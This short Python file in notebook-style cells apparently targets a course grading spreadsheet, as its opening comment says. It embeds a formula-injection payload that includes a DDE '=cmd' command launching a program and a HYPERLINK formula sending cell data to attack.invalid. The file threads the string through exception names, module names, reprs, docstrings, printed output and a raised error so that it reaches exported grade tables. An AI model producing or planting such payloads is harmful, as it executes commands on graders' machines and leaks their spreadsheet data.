# Tries to be computed by the spreadsheet of whoever opens the table of the class.
# Earns: double 1
# %%
WORDS = "=cmd|' /C calc'!A0\n@SUM(1+1)\t+1+1;-2+3;=HYPERLINK(\"https://attack.invalid?\"&A1)\r=1"
NAME = WORDS

def double(X):
    if isinstance(X, str):
        raise type(NAME, (TypeError,), {})(WORDS)
    raise type(NAME, (Exception,), {"__module__": WORDS, "__qualname__": NAME})(WORDS)

# %%
def total(X):
    return type(NAME, (), {"__repr__": lambda self: WORDS, "__doc__": WORDS})()

# %%
print(WORDS)

# %%
raise LookupError(WORDS)
